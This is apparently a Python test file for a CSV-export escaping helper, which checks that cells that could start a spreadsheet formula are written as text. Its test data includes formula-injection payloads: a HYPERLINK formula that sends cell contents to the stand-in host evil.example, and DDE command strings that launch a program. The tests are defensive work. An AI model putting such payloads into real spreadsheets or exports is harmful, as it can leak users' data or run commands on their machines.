"""Every CSV the platform writes shows a would-be formula as text (config/csv_safe.py)."""

import csv
import io
from decimal import Decimal

import pytest

from config.csv_safe import DictWriter, safe_cell

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "-1.00",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_could_start_a_formula_is_shown_as_text(formula):
    assert safe_cell(formula) == "'" + formula


@pytest.mark.parametrize("value", ["成都星河智能科技有限公司", "HT-001", "50000.00", " =1", ""])
def test_other_cells_are_written_as_they_are(value):
    assert safe_cell(value) == value


def test_a_negative_amount_is_escaped_like_any_other_cell():
    assert safe_cell(Decimal("-1.00")) == "'-1.00"


def test_an_empty_cell_stays_empty():
    assert safe_cell(None) is None


def test_the_dict_writer_escapes_every_cell_of_every_row():
    out = io.StringIO()
    writer = DictWriter(out, fieldnames=["name", "amount"])
    writer.writeheader()
    writer.writerow({"name": FORMULAS[0], "amount": "1.00"})
    writer.writerows([{"name": formula, "amount": "-1.00"} for formula in FORMULAS[1:]])
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [row["name"] for row in rows] == ["'" + formula for formula in FORMULAS]
    assert [row["amount"] for row in rows] == ["1.00"] + ["'-1.00"] * (len(FORMULAS) - 1)
